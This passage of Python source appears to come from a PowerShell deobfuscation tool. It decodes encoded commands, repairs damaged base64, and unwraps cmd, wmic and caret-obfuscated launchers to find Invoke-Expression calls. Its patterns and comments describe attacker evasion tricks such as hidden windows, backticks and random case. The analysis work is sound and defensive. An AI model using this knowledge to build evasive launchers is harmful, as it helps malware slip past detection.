    def inflate(self, data: bytes, kind: str) -> bytes:
        self.tech.add(kind)
        d = zlib.decompressobj(-15 if kind == "deflate" else 31)
        cap = min(MAX_VALUE, self.ctx.max_bytes)
        try:
            out = d.decompress(data, cap + 1)
        except zlib.error:
            out = b""
            try:  # a truncated stream: keep what inflated before the damage
                d2 = zlib.decompressobj(-15 if kind == "deflate" else 31)
                for k in range(0, min(len(data), cap), 4096):
                    out += d2.decompress(data[k:k + 4096], cap + 1 - len(out))
                    if len(out) > cap:
                        break
            except zlib.error:
                pass
            self.ctx.reason = self.ctx.reason or f"corrupt {kind} stream"
        if len(out) > cap:
            self.ctx.reason = "decompression cap"
            out = out[:cap]
        return out

    def member(self, v: Any, name: str, args: list[Any] | None, static: bool) -> Any:
        self.ctx.tick()
        if v is UNKNOWN or (args is not None and not _known(args)):  # (the usual case first)
            return UNKNOWN
        if static and isinstance(v, _Obj) and v.kind == "type":
            return self.static(v.data, name, args)
        if not _known(v):
            return UNKNOWN
        if isinstance(v, _Obj):
            if v.kind == "encoding" and name == "getstring" and args:
                data = self._bytes(args[0])
                if data is None:
                    return UNKNOWN
                if len(args) >= 3:
                    s, n = _to_int(args[1]) or 0, _to_int(args[2]) or 0
                    data = data[s:s + n]
                return data.decode(v.data, "replace")
            if v.kind == "encoding" and name == "getbytes" and args:
                try:
                    return _Bytes(_to_str(args[0]).encode(v.data, "replace"))
                except (LookupError, UnicodeError):
                    return UNKNOWN
            if v.kind == "reader" and name == "readtoend" and args == []:
                return v.data.decode(v.extra, "replace")
            if v.kind == "executioncontext" and name == "invokecommand" and args is None:
                return _Obj("invokecommand")
            if v.kind == "invokecommand" and args and isinstance(args[0], str):
                if name == "invokescript":
                    return _Obj("invoke", args[0])
                if name == "newscriptblock":
                    return _Obj("scriptblock", args[0])
            if v.kind == "scriptblock" and name in ("invoke", "invokereturnasis"):
                return _Obj("invoke", v.data)
            if v.kind == "variable":
                if name == "name":
                    return v.data
                if name == "value":
                    return v.extra if v.extra is not None else UNKNOWN
            if v.kind == "stream" and name == "toarray" and args == []:
                return _Bytes(v.data)
            return UNKNOWN
        if isinstance(v, list) and name in ("name", "value") and v and all(isinstance(x, _Obj) for x in v):
            return [self.member(x, name, args, static) for x in v]
        if isinstance(v, str):
            return self.string_method(v, name, args)
        if isinstance(v, list | bytes):
            if name in ("count", "length") and args is None:
                return len(v)
        return UNKNOWN

    def string_method(self, s: str, name: str, args: list[Any] | None) -> Any:
        if args is None:
            if name == "length":
                return len(s)
            return UNKNOWN
        a = [_to_str(x) if not isinstance(x, int) else x for x in args]
        if name == "replace" and len(a) == 2:
            self.tech.add("replace")
            if a[0] == "":
                return UNKNOWN
            r = s.replace(_to_str(a[0]), _to_str(a[1]))
            self.ctx.size(len(r))
            return r
        if name == "tolower" or name == "tolowerinvariant":
            return s.lower()
        if name == "toupper" or name == "toupperinvariant":
            return s.upper()
        if name == "tostring":
            return s
        if name == "trim" and not a:
            return s.strip()
        if name in ("trim", "trimstart", "trimend") and a:
            chars = "".join(_to_str(x) for x in a)
            return s.strip(chars) if name == "trim" else s.lstrip(chars) if name == "trimstart" else s.rstrip(chars)
        if name == "trimstart":
            return s.lstrip()
        if name == "trimend":
            return s.rstrip()
        if name == "tochararray":
            return list(s)
        if name == "split":
            self.tech.add("split")
            seps = "".join(_to_str(x) for x in args)
            if not seps:
                return s.split()
            return re.split("[" + re.escape(seps) + "]", s)
        if name == "substring" and a and all(isinstance(x, int) for x in a):
            start = a[0]
            return s[start:start + a[1]] if len(a) > 1 else s[start:]
        if name == "insert" and len(a) == 2 and isinstance(a[0], int):
            return s[: a[0]] + _to_str(a[1]) + s[a[0]:]
        if name == "remove" and a and all(isinstance(x, int) for x in a):
            return s[: a[0]] + (s[a[0] + a[1]:] if len(a) > 1 else "")
        if name == "invoke":
            return UNKNOWN
        return UNKNOWN

    def static(self, t: str, name: str, args: list[Any] | None) -> Any:
        if t in ("convert",):
            if name == "frombase64string" and args and isinstance(args[0], str):
                self.tech.add("base64")
                return _Bytes(_b64(args[0], self.ctx))
            if name in ("toint16", "toint32", "toint64", "tobyte") and args:
                try:
                    return int(_to_str(args[0]), _to_int(args[1]) or 10) if len(args) > 1 else _to_int(args[0])
                except ValueError:
                    return UNKNOWN
            if name == "tochar" and args:
                n = _to_int(args[0])
                if n is not None and 0 <= n <= 0x10FFFF:
                    self.tech.add("char-codes")
                    return chr(n)
            return UNKNOWN
        if t in ("text.encoding",) and args is None and name in _ENCODINGS:
            return _Obj("encoding", _ENCODINGS[name])
        if t == "string":
            if name == "join" and args and len(args) >= 2:
                self.tech.add("join")
                items = args[1] if len(args) == 2 else args[1:]
                return _to_str(args[0]).join(_to_str(x) for x in _as_list(items))
            if name == "concat" and args:
                self.tech.add("concat")
                return "".join(_to_str(x) for x in (args[0] if len(args) == 1 and isinstance(args[0], list) else args))
            if name == "format" and args:
                self.tech.add("format")
                return _format(_to_str(args[0]), args[1] if len(args) == 2 and isinstance(args[1], list) else args[1:])
            return UNKNOWN
        if t == "char" and name in ("convertfromutf32", "tostring") and args:
            n = _to_int(args[0])
            if n is not None and 0 <= n <= 0x10FFFF:
                self.tech.add("char-codes")
                return chr(n)
            return UNKNOWN
        if t == "regex" and args and len(args) >= 2:
            s, pat = _to_str(args[0]), _to_str(args[1])
            opts = _to_str(args[-1]).lower() if len(args) >= 3 else ""
            if name == "matches":
                rx = _safe_regex(pat, "ignorecase" in opts)
                if rx is None:
                    return UNKNOWN
                found = [m.group() for m in rx.finditer(s)]
                if "righttoleft" in opts:
                    self.tech.add("reverse")
                    found.reverse()
                self.ctx.size(len(found))
                return found
            if name == "replace" and len(args) >= 3:
                rx = _safe_regex(pat, "ignorecase" in opts)
                if rx is None:
                    return UNKNOWN
                self.tech.add("replace")
                try:
                    return rx.sub(_replacement(_to_str(args[2])), s)
                except (re.error, IndexError):
                    return UNKNOWN
            return UNKNOWN
        if t.endswith("compressionmode") and args is None:
            return _Obj("enum", name)
        if t in ("scriptblock", "management.automation.scriptblock") and name == "create" and args:
            return _Obj("scriptblock", _to_str(args[0]))
        return UNKNOWN


_MAX_DRIVE = "MaximumDriveCount"
_KNOWN_VARS = [
    ("MaximumDriveCount", 4096), ("MaximumAliasCount", 4096), ("MaximumFunctionCount", 4096),
    ("MaximumVariableCount", 4096), ("MaximumHistoryCount", 4096), ("MaximumErrorCount", 256),
    ("ExecutionContext", None), ("ShellId", "Microsoft.PowerShell"), ("VerbosePreference", "SilentlyContinue"),
    ("PSHOME", "C:\\Windows\\System32\\WindowsPowerShell\\v1.0"),
]


def _match_variable(pattern: str) -> tuple[str, Any] | None:
    """The automatic variable a wildcard such as ``*mdr*`` names, when exactly one matches."""
    rx = "^" + re.escape(pattern).replace("\\*", ".*").replace("\\?", ".") + "$"
    hits = [v for v in _KNOWN_VARS if re.match(rx, v[0], re.I)]
    return hits[0] if len(hits) == 1 else None


_NOT_B64 = bytes(c for c in range(128) if not re.fullmatch(r"[A-Za-z0-9+/=_-]", chr(c)))


def _b64(s: str, ctx: _Ctx) -> bytes:
    """Base64 as .NET decodes it, tolerant of whitespace and a damaged tail (reported)."""
    s = "".join(s.split())  # str.split() and re's \s: the same whitespace (Py_UNICODE_ISSPACE)
    ctx.size(len(s) * 3 // 4)
    if s.isascii():  # bytes.translate deletes in C what the regex below removes
        body = s.encode("ascii").translate(None, _NOT_B64).decode("ascii").rstrip("=")
    else:
        body = re.sub(r"[^A-Za-z0-9+/=_-]", "", s).rstrip("=")
    if body != s.rstrip("="):
        ctx.reason = ctx.reason or "invalid base64 characters"
    cut = len(body) - len(body) % 4
    if len(body) % 4 == 1:  # one stray character cannot encode a byte
        ctx.reason = ctx.reason or "truncated base64"
        body = body[:cut]
    try:
        return base64.b64decode(body + "=" * (-len(body) % 4), altchars=b"-_" if ("-" in body or "_" in body) else None)
    except (binascii.Error, ValueError):
        ctx.reason = ctx.reason or "invalid base64"
        return b""


def _decode_utf16(data: bytes, ctx: _Ctx) -> str:
    if len(data) % 2:
        ctx.reason = ctx.reason or "truncated UTF-16"
        data = data[:-1]
    text = data.decode("utf-16-le", "replace")
    if "\ufffd" in text and ctx.reason is None:
        ctx.reason = "invalid UTF-16"
    return text.lstrip("\ufeff")


# ASCII control characters but tab, newline and carriage return (deleted by bytes.translate)
_CONTROLS = bytes(c for c in [*range(32), 127] if c not in (9, 10, 13))


def _ascii_share(text: str) -> float:
    """The share of printable ASCII, tab, CR and LF in the first 2,000 characters."""
    sample = text[:2000]
    printable = sample.encode("ascii", "ignore").translate(None, _CONTROLS)
    return len(printable) / max(len(sample), 1)


# what UTF-16LE script text is made of; a byte or bit shift turns ASCII into U+2000.. or CJK
_TEXT_CHARS = "\t\n\r\x20-\x7e\xa0-\xff\u2013\u2014\u2018\u2019\u201c\u201d\ufeff"
_NON_TEXT = re.compile(f"[^{_TEXT_CHARS}]")
_WINDOW_TEXT = re.compile(r"[\t\n\r\x20-\x7e]{5}")  # a run starts with ASCII: Latin-1 comes from NULs
_B64_SEGMENT = re.compile(r"[A-Za-z0-9+/]+")
LENIENT_MAX = 1024 * 1024  # base64 characters the lenient decoder reads (the search is per character)


def _b64_prefix(s: str) -> bytes:
    """The bytes that whole characters of *s* (alphabet only) encode: a 2-3 character tail counts."""
    body = s[: len(s) - len(s) % 4] if len(s) % 4 == 1 else s
    return base64.b64decode(body + "=" * (-len(body) % 4))


def _text_runs(seg: str, ctx: _Ctx, decoded: bytes | None = None) -> tuple[list[str], int]:
    """Resynchronise a damaged base64 segment: the UTF-16LE text runs it holds at whatever character
    offset (4 alignments) and byte offset each run starts, and how many characters went to no text.
    A deleted character shifts everything after it; Unit42's decoder read through such shifts by
    dropping NUL bytes, this reads each run in its own alignment instead. *decoded*: the
    caller's _b64_prefix(seg), if it has it (the common run starts at offset 0)."""
    runs: list[str] = []
    pos = used = 0  # used: bytes read into text
    n = len(seg)
    while pos + 8 <= n:
        start = None
        for j in range(pos, n - 7):  # the first offset where 5 characters in a row are text
            ctx.tick(16)  # (a base64 and three UTF-16 decodes, and their calls: ~8 us)
            window = _b64_prefix(seg[j:j + 16])
            for par in (0, 1, 2):  # the byte offset (3 is offset 0 at j + 4)
                w = window[par:par + 10]
                if _WINDOW_TEXT.match(w[: len(w) // 2 * 2].decode("utf-16-le", "replace")):
                    start = (j, par)
                    break
            if start is not None:
                break
        if start is None:
            break
        j, par = start
        data = (decoded if j == 0 and decoded is not None else _b64_prefix(seg[j:]))[par:]
        ctx.tick(len(data) // 64)
        # 'replace' keeps one character per 2 bytes up to the first non-text one (a pair is non-text)
        text = data[: len(data) // 2 * 2].decode("utf-16-le", "replace")
        bad = _NON_TEXT.search(text)
        end = bad.start() if bad else len(text)
        run = text[:end]
        if bad is None and len(data) % 2 and 0x20 <= data[-1] < 0x7f:
            run += chr(data[-1])  # the last character's high (zero) byte was cut off
        runs.append(run)
        used += len(run) * 2 - (len(run) * 2 > len(data))
        if bad is None:
            break
        # resume at the base64 character holding the first bad byte's bits, less one: a run in
        # another alignment may start in a character the last run's tail shares
        pos = max(j + (par + 2 * end) * 8 // 6 - 1, pos + 1)
    # the characters whose bits went to no text (at least one a resynchronisation)
    return runs, max(n - round(used * 4 / 3), len(runs) - 1, 0)


def _lenient_encoded(raw: str, ctx: _Ctx) -> tuple[str, str] | None:
    """A damaged -EncodedCommand value read through, from bytes actually present only: characters
    outside the alphabet end a segment (a quote and ``,NULL,NULL);`` after the value, an escaped
    ``\\xc3``), each segment is resynchronised, and a UTF-8 payload is read as UTF-8 (PowerShell
    would not run these; the payload they carry is still the evidence). (text, reason) or None."""
    # str.split() and re's \s: the same whitespace; split/join is ~10x faster than re.sub here
    s = "".join(raw.split())[:LENIENT_MAX].replace("-", "+").replace("_", "/")
    segs = _B64_SEGMENT.findall(s)
    whole = "".join(segs)
    first = None
    if len(whole) >= 8 and len(segs[0]) == len(whole):
        first = _b64_prefix(whole)
        try:  # base64 of UTF-8 (or ASCII) where UTF-16LE was due: no NULs, and valid UTF-8 text
            text = first.decode("utf-8")
        except UnicodeDecodeError:
            text = ""
        text = text.lstrip("\ufeff")
        if text and "\0" not in text and _ascii_share(text) >= 0.95 and _NON_TEXT.search(text[:2000]) is None:
            return text, "base64 of UTF-8, not UTF-16LE"
    runs: list[str] = []
    skipped = len(s.rstrip("=")) - len(whole)  # characters outside the alphabet
    try:
        for seg in segs:
            r, k = _text_runs(seg, ctx, first)
            runs += r
            skipped += k
    except _Stop:
        return None  # out of time mid-search: the strict decode stands, the cut is reported
    text = "".join(runs).lstrip("\ufeff")
    if len(text) < 8:
        return None
    return text, (f"base64 damaged: {skipped} characters skipped" if skipped else "truncated UTF-16")


def _decode_encoded(raw: str, ctx: _Ctx) -> str:
    """-EncodedCommand's value: base64 of UTF-16LE. A value cut or shifted by a character or a
    byte (seen in the wild) is re-aligned when that turns noise into text; the repair is noted."""
    ctx.afford(len(raw))
    probe = ctx.probe()
    text = _decode_utf16(_b64(raw, probe), probe)
    ctx.spent = probe.spent
    if probe.reason is None and _ascii_share(text) >= 0.9:
        return text
    # damaged (bad characters, odd length, invalid UTF-16) or noise: read it leniently, unless that
    # keeps less than half the text the strict decode has (a lone surrogate in a short value)
    fixed = _lenient_encoded(raw, ctx)
    if fixed is not None and (2 * len(fixed[0]) >= len(text)
                              or 2 * len(fixed[0]) >= len(_NON_TEXT.sub("", text))):
        ctx.reason = ctx.reason or fixed[1]
        return fixed[0]
    text = _decode_utf16(_b64(raw, ctx), ctx)
    if _ascii_share(text) >= 0.9:
        return text
    best, best_share = text, _ascii_share(text)
    raw = "".join(raw.split())
    for skip in range(1, 4):  # at most 3 characters and 1 byte: a bounded search
        probe = _Ctx(1000, ctx.max_bytes)
        data = _b64(raw[skip:], probe)
        for cut in (data, data[1:]):
            cand = _decode_utf16(cut, probe)
            share = _ascii_share(cand)
            if share > best_share + 0.2:
                best, best_share = cand, share
    if best is not text:
        ctx.reason = "repaired base64 alignment"
    return best


# -- launchers -----------------------------------------------------------------------------------

# `powershell.exe-window hidden ...` (no space after .exe) is seen in the wild too
_PS_EXE = re.compile(r"""(?i)(?:^|[\s\\/"'&|(;=])(?:powershell(?:_ise)?|pwsh)(?:\.exe)?\\?["']?(?=[\s"']|$|(?<=\.exe)-\w)""")
# what may precede the executable on a command line: quotes and a path, nothing of a script
_EXE_PREFIX = re.compile(r"""(?i)\s*(?:[\\"']*(?:[a-z]:|%\w+%|\$\w+:?\w*)?[\w\\/. ()$:%~-]*?)?""")
# wmic [/node:... /user:...] process call create "<command line>": WMI starts the command
_WMIC = re.compile(r"""(?is)^\s*["']?(?:[a-z]:[\\/][^"']*?[\\/])?wmic(?:\.exe)?["']?\s+"""
                   r"""(?:/(?:"[^"]*"|[^\s"])+\s+)*process\s+call\s+create\s+(.+)$""")
_CMD_EXE = re.compile(r"(?i)(?:^|[\s\\/\"'])cmd(?:\.exe)?[\"']?\s+/[ckr]\b")
_DASH = "-\u2013\u2014\u2015/"
_ARG = re.compile(r'"(?:[^"\\]|\\.)*"?|\'[^\']*\'?|\S+')
_VALUED = ("executionpolicy", "ep", "ex", "exec", "windowstyle", "w", "win", "window", "version", "v",
           "inputformat", "if", "outputformat", "of", "o", "configurationname", "psconsolefile",
           "workingdirectory", "wd", "settingsfile", "custompipename")
_VALUED_FULL = ("executionpolicy", "windowstyle", "version", "inputformat", "outputformat",
                "configurationname", "psconsolefile", "workingdirectory", "settingsfile", "custompipename")


_ENC_PARAM = re.compile(r"(?i)(?:^|\s)[-\u2013\u2014\u2015/](e[a-z]*)(?=\s)")
# a dash before an 'e' (no other character folds to it): an _ENC_PARAM match starts there or one
# before; its (?:^|\s) is tried at every character otherwise
_ENC_AT = re.compile("[-\u2013\u2014\u2015/](?=[eE])")


def _enc_starts(s: str) -> list[int]:
    """Where an _ENC_PARAM match in *s* can start: one before each _ENC_AT hit (ASCII text: by
    bytes.find on the lower-cased bytes, several times faster than the pattern)."""
    at = (_word_starts(s.encode().lower(), (b"-e", b"/e")) if s.isascii()
          else [m.start() for m in _ENC_AT.finditer(s)])
    return [max(x - 1, 0) for x in at]


def _param_kind(name: str) -> str:
    n = name.lower()
    if n in ("e", "ec") or (len(n) >= 2 and "encodedcommand".startswith(n)):
        return "enc"
    if n == "c" or (len(n) >= 2 and "command".startswith(n)):
        return "command"
    if n == "f" or (len(n) >= 2 and "file".startswith(n)):
        return "file"
    if n in _VALUED or any(full.startswith(n) and len(n) >= 3 for full in _VALUED_FULL):
        return "valued"
    return "flag"


def _unquote(s: str) -> str:
    s = s.strip()
    if len(s) >= 2 and s[0] == s[-1] and s[0] in "\"'":
        return s[1:-1]
    if s[:1] == '"' and s.count('"') == 1:
        return s[1:]
    return s


_LAST_LOW: tuple[str, bytes] = ("", b"")


def _ascii_low(s: str) -> bytes:
    """The ASCII characters of *s*, lower-cased: where to look for a word of ASCII letters that
    an IGNORECASE pattern needs, before running it (str.lower() of non-ASCII text costs ~10 ns a
    character, this ~1). Same positions as in *s* when *s* is ASCII; otherwise deleted
    characters may join pieces into a word, which only makes the pattern run. The last one is
    kept: the passes over a layer ask for the same text (one tuple, read once: thread-safe)."""
    global _LAST_LOW
    last = _LAST_LOW
    if last[0] is s:
        return last[1]
    low = s.encode("ascii", "ignore").lower()
    _LAST_LOW = (s, low)
    return low


_PS_WORD = (b"powershell", b"pwsh")
_CMD_WORD = (b"cmd",)


def _find_all(hay: AnyStr, lit: AnyStr) -> list[int]:
    """Every position of *lit* in *hay*, overlapping ones too (what re.finditer of its first
    character with the rest as a lookahead gives), by str.find: ~10x faster than re's literal scan."""
    out = []
    i = hay.find(lit)
    while i >= 0:
        out.append(i)
        i = hay.find(lit, i + 1)
    return out


def _word_starts(low: bytes, words: tuple[bytes, ...]) -> list[int]:
    """Where re.finditer(b"|".join(words), low) matches start, for words none of which overlaps
    itself or another."""
    return sorted(i for w in words for i in _find_all(low, w))


def _search_near(rx: re.Pattern[str], s: str, word: tuple[bytes, ...]) -> re.Match[str] | None:
    """rx.search(s) for _PS_EXE (word: _PS_WORD) and _CMD_EXE (_CMD_WORD), whose matches start at
    0 or one character before their word. An IGNORECASE pattern without a literal prefix is
    tried at every character; in ASCII text (where case is ASCII case) it is tried only where
    the word is. Elsewhere, the word's letters fold to ASCII letters only, but 's' to U+017F
    too (str.lower() does not)."""
    low = _ascii_low(s)
    if not s.isascii():
        return rx.search(s) if any(w in low for w in word) or "\u017f" in s else None
    for at in _word_starts(low, word):
        if (m := rx.match(s, max(at - 1, 0))) is not None:
            return m
    return None


def _uncaret(s: str) -> str:
    """``re.sub(r"\\^(.)", r"\\1", s)``: cmd's escapes undone, by str methods (the regex makes a
    Python call per caret)."""
    return unescape(s, "^", {}, False) if "^" in s else s


def _wmic(head: str) -> re.Match[str] | None:
    """_WMIC.match(head), tried only when *head* has "wmic" (IGNORECASE: its 'i' may be U+0130 or
    U+0131, no other letter folds): mostly not there, and a match from a leading path can
    scan all of the head."""
    if b"wmic" in _ascii_low(head) or not head.isascii() and ("\u0130" in head or "\u0131" in head):
        return _WMIC.match(head)
    return None


def _launcher(text: str, env: dict[str, Any], ctx: _Ctx) -> tuple[str, str] | None:
    """Unwrap one launcher level: (technique, inner text) or None when *text* is not a command line."""
    head = text[:4096]
    wmic = _wmic(head)
    if wmic is not None:
        inner = _unquote(text[wmic.start(1):].strip())
        return ("launcher", inner) if _search_near(_PS_EXE, inner[:4096], _PS_WORD) else None
    cmd = _search_near(_CMD_EXE, head, _CMD_WORD)
    if cmd is not None and "^" in text[cmd.end():]:
        ctx.afford(len(text))
        # cmd takes its caret escapes out first: p^owe^rshell is powershell, and carets in a
        # command line cmd runs are obfuscation, not anything cmd needs
        bare = text[:cmd.end()] + _uncaret(text[cmd.end():])
        m = _search_near(_PS_EXE, bare[:4096], _PS_WORD)
        if m is None:
            return None
        found = _launcher(bare, env, ctx)
        return None if found is None else (
            ("carets", found[1]) if found[0] == "launcher" else found)
    m = _search_near(_PS_EXE, head, _PS_WORD)
    if m is None:
        return None
    via_cmd = cmd is not None and cmd.start() < m.start() and _EXE_PREFIX.fullmatch(text[: cmd.start() + 1]) is not None
    if not via_cmd and (_EXE_PREFIX.fullmatch(text[: m.start() + 1]) is None
                        or re.search(r"(?i)\b(?:start-process|saps)\b", text[: m.start()])):
        # a script that mentions powershell, or starts it (_child_powershell reads its
        # -ArgumentList): not a command line that runs it
        return None
    if via_cmd:
        pre = text[: m.start() + 1]
        for sm in re.finditer(r'(?i)\bset\s+"?([A-Za-z_][\w]*)=(.*?)"?\s*(?=&&|&|\||\n|$)', pre):
            env["env:" + sm.group(1).lower()] = sm.group(2)
        em = re.search(r"(?i)\becho\s+(.*?)\s*\|\s*clip(?:\.exe)?\b", pre)
        if em:
            env["clipboard"] = _unquote(em.group(1)).replace("^", "")
    args_text = text[m.end():]
    if via_cmd:
        args_text = _uncaret(args_text)  # cmd's caret escapes
        args_text = args_text.rstrip().removesuffix('"') if text[cmd.end():].lstrip().startswith('"') else args_text
    enc_text = args_text[:8192]
    for em in _finditer_at(_ENC_PARAM, enc_text, _enc_starts(enc_text)):
        if _param_kind(em.group(1)) == "enc":
            vm = _ARG.search(args_text, em.end())
            if vm is not None and vm.group()[:1] in _DASH and len(vm.group()) < 16:
                continue  # '-enc -enc X': the value is the next argument
            if vm is not None:
                return "encodedcommand", _decode_encoded(_unquote(vm.group()), ctx)
    pos = 0
    for _ in range(256):
        am = _ARG.search(args_text, pos)
        if am is None:
            break
        arg = am.group()
        pos = am.end()
        if arg in ("-", "\u2013", "\u2014", "\u2015"):  # the script comes from stdin
            return _stdin(text, m.start(), env)
        if arg[0] in _DASH and len(arg) > 1 and not arg.startswith("//"):
            name = arg[1:].rstrip(":")
            kind = _param_kind(name)
            if kind == "enc":
                vm = _ARG.search(args_text, pos)
                if vm is None:
                    return None
                return "encodedcommand", _decode_encoded(_unquote(vm.group()), ctx)
            if kind == "command":
                rest = args_text[pos:].strip()
                if rest == "-" or rest.startswith("- "):
                    return _stdin(text, m.start(), env)
                return "launcher", _unquote(rest)
            if kind in ("valued", "file"):
                if kind == "file":
                    return None
                vm = _ARG.search(args_text, pos)
                pos = vm.end() if vm else len(args_text)
            continue
        rest = args_text[am.start():].strip()
        if rest:
            return "launcher", _unquote(rest)
        break
    if re.search(r"\|\s*$", text[: m.start() + 1]) or re.search(r"\|\s*[\"']?[^|]*$", text[: m.start() + 1]):
        return _stdin(text, m.start(), env)
    return None


# a script that starts PowerShell again with its command in a string: ProcessStartInfo's
# .Arguments, Start-Process -ArgumentList (Powerfun's 32/64-bit relaunch); a double-quoted string
# only when nothing in it expands
_CHILD_ARGS = re.compile(r"""(?i)(?:\.arguments\s*=|-argumentlist\s|-args\s)\s*"""
                         r"""(?:'((?:[^']|'')*)'|"((?:[^"`$]|"")*)")""")
_CHILD_SCAN = 1 << 20


def _child_powershell(text: str, env: dict[str, Any], ctx: _Ctx) -> tuple[set[str], str] | None:
    """The command of a PowerShell the script starts (``_CHILD_ARGS``), as a launcher layer."""
    head = text[:_CHILD_SCAN]
    # every _CHILD_ARGS match has "arg" one character in (no non-ASCII letter folds to a, r or g):
    # tried only there in ASCII text
    low = _ascii_low(head)
    if (b"arg" not in low or not (b"powershell" in low or b"pwsh" in low or "\u017f" in head)
            or not re.search(r"(?i)powershell|pwsh", head)):  # (U+017F: as in _search_near)
        return None
    matches = (_finditer_at(_CHILD_ARGS, head, [i - 1 for i in _find_all(low, b"arg") if i])
               if head.isascii() else _CHILD_ARGS.finditer(head))
    for m in matches:
        args = m.group(1).replace("''", "'") if m.group(1) is not None \
            else m.group(2).replace('""', '"')
        if args.lstrip()[:1] not in _DASH:
            continue  # PowerShell's own parameters come first; anything else is another program's
        if not m.group(0).startswith(".") and not re.search(  # Start-Process <what> -ArgumentList
                r"(?i)powershell|pwsh", head[max(head.rfind(";", 0, m.start()),
                                                 head.rfind("\n", 0, m.start())) + 1:m.start()]):
            continue
        found = _launcher("powershell.exe " + args, env, ctx)
        if found is not None:
            return {"launcher", found[0]}, found[1]
    return None


def _stdin(text: str, ps_at: int, env: dict[str, Any]) -> tuple[str, str] | None:
    pre = text[: ps_at + 1]
    em = re.search(r"(?is)\becho\s+(.*?)\s*\|[^|]*$", pre)
    if em:
        return "launcher", _unquote(_uncaret(em.group(1)))
    return None


# -- invoke sites ---------------------------------------------------------------------------------

_STMT_START = frozenset({"semicolon", "newline", "lbrace", "lparen", "pipe", "subexpr", "amp"})
_STEP_KINDS = frozenset({"variable", "type", "word", "amp", "dot", "lparen", "string"})  # what it acts on


def _callee_is_iex(f: _Folder, i: int) -> tuple[bool, int]:
    """At token i after '&' or '.': does the callee evaluate to Invoke-Expression? (is_iex, next)."""
    if f.t[i][0] == "word":
        return f.names_iex(i), i + 1
    v, j = f.unary(i)
    if isinstance(v, list) and v and all(isinstance(x, str) for x in v):
        v = "".join(v)
    return isinstance(v, str) and v.lower() in _IEX_NAMES, j


def _statement_start(f: _Folder, p: int) -> int:
    depth = 0
    t = f.t
    for j in range(p - 1, -1, -1):
        k = t[j][0]
        if k in _CLOSE:
            depth += 1
        elif k in _OPEN:
            if depth == 0:
                return j + 1
            depth -= 1
        elif depth == 0 and k in ("semicolon", "newline", "pipe"):
            return j + 1
    return 0


def _script_step(toks: list[Tok], env: dict[str, Any], ctx: _Ctx,
                 tables: _Tables | None = None) -> tuple[set[str], str] | None:
    """Find the first Invoke-Expression whose argument folds to a string: (techniques, that string)."""
    tech: set[str] = set()
    f = _Folder(toks, env, ctx, tech, tables)
    t = f.t
    n = len(toks)
    i = steps = 0
    while i < n:
        steps += 1  # ctx.tick() a token, counted here: this loop is hot
        if steps >= TICKS:
            ctx.ticks += steps
            steps = 0
            ctx.check()
        k = t[i][0]
        if k not in _STEP_KINDS:
            i += 1
            continue
        tok = toks[i]
        prev = t[i - 1][0] if i else "semicolon"
        # (an operator is '=' exactly when its text is: nothing else lower-cases to it)
        at_start = prev in _STMT_START or (prev == "operator" and t[i - 1][1] == "=")
        if not at_start and k != "type":  # the steps act at a statement's start (and on types)
            i += 1
            continue
        iex_here = False
        after = i + 1
        if k == "variable" and t[i + 1][1] == "=" and t[i + 1][0] == "operator":
            name = f.variable(i)
            f.tech = set()
            v, j = f.pipeline(i + 2)
            f.tech = tech
            if _known(v) and t[j][0] in ("semicolon", "newline", "eof", "rbrace", "rparen"):
                env[name] = v
            else:
                env.pop(name, None)
            i = max(j, i + 1)
            continue
        if k == "type" and f.op(i + 1) == "::" and t[i + 2][0] == "word" and t[i + 4][0] == "variable" and word_value(toks[i + 2]).lower() == "reverse" and f.typename(i) == "array":
            name = variable_name(toks[i + 4])
            if isinstance(env.get(name), list):
                env[name] = list(reversed(env[name]))
                tech.add("reverse")
            i += 5
            continue
        if k == "word" and f.names_iex(i):
            iex_here, after = True, i + 1
            if word_value(tok) not in ("iex", "Invoke-Expression", "IEX"):
                tech.add("backticks" if "`" in tok[1] else "case")
        elif k in ("amp", "dot"):
            is_iex, after = _callee_is_iex(f, i + 1)
            if is_iex:
                iex_here = True
                tech.add("iex-alias")
        if iex_here:
            if t[after][0] == "parameter" and f.text(after).lower().startswith("-c"):
                after += 1
            if prev == "pipe":
                s = _statement_start(f, i - 1)
                v, j = f.pipeline(s)
                if j == i - 1 and isinstance(v, str):
                    tech.add("iex")
                    return tech, v
            elif t[after][0] not in ("eof", "semicolon", "newline", "pipe", "rbrace", "rparen"):
                v, j = f.pipeline(after)
                if isinstance(v, list) and v and all(isinstance(x, str) for x in v):
                    v = "".join(v)
                if isinstance(v, str):
                    tech.add("iex")
                    return tech, v
            i = after
            continue
        # `<expr>.Invoke()` on a script block made from a string
        if k in ("type", "lparen", "variable", "string") and at_start:
            v, j = f.pipeline(i)
            if isinstance(v, _Obj) and v.kind == "invoke":
                tech.add("iex")
                return tech, v.data
            if isinstance(v, str) and t[j][0] == "pipe" and j + 1 < n:
                nk = t[j + 1][0]
                if nk == "word" and f.names_iex(j + 1):
                    tech.add("iex")
                    if word_value(toks[j + 1]) not in ("iex", "IEX", "Invoke-Expression"):
                        tech.add("backticks" if "`" in toks[j + 1][1] else "case")
                    return tech, v
                if nk in ("amp", "dot"):
                    is_iex, _ = _callee_is_iex(f, j + 2)
                    if is_iex:
                        tech.update(("iex", "iex-alias"))
                        return tech, v
            i = max(j, i + 1) if j > i else i + 1
            continue
        i += 1
    return None


# -- clean-up of the last layer -------------------------------------------------------------------

# Random case: a lone lower-case letter between capitals (NeW, StE) or a capital closing a word
# (NeW), never seen in CamelCase except in two-letter words (IsNullOrEmpty, ToString).
_CASE_SIGNAL = re.compile(r"(?=([a-z][A-Z](?![A-Za-z])|[A-Z][a-z][A-Z]))")
_CASE_ANY = re.compile(r"[a-z][A-Z](?![A-Za-z])|[A-Z][a-z][A-Z]")  # where _CASE_SIGNAL matches
_LOWER_RUN = re.compile(r"[a-z]{3}")
_TWO_LETTER = frozenset("Is Or To At By Of On In Id Do If As Up No Ok Db Ip Os Vm Ui Ad Ex Me My So We Be It Go Us".split())
# with three rewrites or more, these make a fold a layer (a lone 'a'+'b' is how people write scripts)
_STRONG = frozenset({"backticks", "char-codes", "format", "reverse", "replace", "split", "join", "bxor",
                     "base64", "deflate", "gzip", "member-string"})


# a backtick before a letter that is no escape (`n, `t...) has no purpose but to break signatures
_IDLE_BACKTICK = re.compile(r"`[1-9A-Zcdg-mo-su-zCDG-MO-SU-Z]")
# what a word needs for _IDLE_BACKTICK or _CASE_SIGNAL to match in it
_FOLD_HINT = re.compile(r"`|[a-z][A-Z]")
_FOLD_ROLES = {"lparen": 1, "word": 2, "type": 2}


def _fold_visit(toks: list[Tok]) -> list[int]:
